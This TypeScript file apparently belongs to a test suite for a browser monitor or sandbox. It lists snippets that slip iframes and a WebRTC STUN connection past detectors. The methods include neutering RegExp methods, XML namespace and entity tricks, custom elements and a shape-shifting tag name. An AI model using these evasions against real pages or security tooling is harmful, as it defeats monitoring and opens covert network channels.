import { ways } from "../way.ts";

const SCRIPT = `const code = URL.createObjectURL(new Blob(["const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + udp + "' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"], { type: "text/javascript" }));`;

/** Ways to a document of its own past those who watch for one: each first replaces what they would use. */
export const hidden = ways({
  "a written frame once no pattern is found any more": {
    code: `${SCRIPT} RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false;
      document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script src=' + code + '></script>"></iframe>'); await sleep(700);`,
  },
  "an attribute of a frame once no pattern is found any more": {
    code: `${SCRIPT} RegExp.prototype.exec = () => null; RegExp.prototype[Symbol.match] = () => null;
      const f = document.createElement("iframe"); f.srcdoc = '<script src="' + code + '"></' + 'script>'; document.body.append(f); await sleep(700);`,
  },
  "a frame of XML under another prefix": {
    code: `const d = new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>', "application/xhtml+xml");
      const f = document.adoptNode(d.documentElement); document.body.append(f); f.contentWindow.location = there; await sleep(400);`,
  },
  "a frame of an entity of XML": {
    code: `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "&#60;h:iframe xmlns:h=\\'http://www.w3.org/1999/xhtml\\'/&#62;">]><x>&e;</x>', "text/xml");
      const f = document.adoptNode(d.documentElement.firstChild); document.body.append(f); f.contentWindow.location = there; await sleep(400);`,
  },
  "a frame that is an element of its own": {
    code: `class F extends HTMLIFrameElement {} customElements.define("x-f", F, { extends: "iframe" });
      const f = new F(); document.body.append(f); f.contentWindow.location = there; await sleep(400);`,
  },
  "an empty frame by a name that changes": {
    code: `let n = 0; const f = document.createElement({ toString: () => (n++ ? "iframe" : "p") }); document.body.append(f);
      if (!f.contentWindow) throw new Error("no frame"); f.contentWindow.location = there; await sleep(400);`,
  },
});
